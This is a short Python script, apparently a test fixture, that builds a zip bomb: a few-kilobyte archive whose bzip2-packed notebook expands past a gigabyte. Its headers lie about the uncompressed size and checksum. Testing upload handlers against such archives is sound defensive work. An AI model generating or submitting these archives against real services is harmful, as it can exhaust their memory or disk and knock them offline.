"""Submits a zip of a few kilobytes whose notebook, packed by bzip2, unpacks to more than a gigabyte in a single step."""

import bz2
import struct
import zipfile
import zlib

CELLS = []


def build(folder, cells):
    packer, packed, megabytes = bz2.BZ2Compressor(), b"", 1200
    for _ in range(megabytes):
        packed += packer.compress(bytes(1 << 20))
    packed += packer.flush()
    size, name = 1 << 25, b"vae.ipynb"  # it claims to be small
    fields = struct.pack("<HHHHHIIIHH", 46, 0, zipfile.ZIP_BZIP2, 0, 33, zlib.crc32(b""), len(packed), size, len(name), 0)
    local = b"PK\x03\x04" + fields + name + packed
    central = b"PK\x01\x02" + struct.pack("<H", 46) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    (folder / "vae.zip").write_bytes(local + central + end)
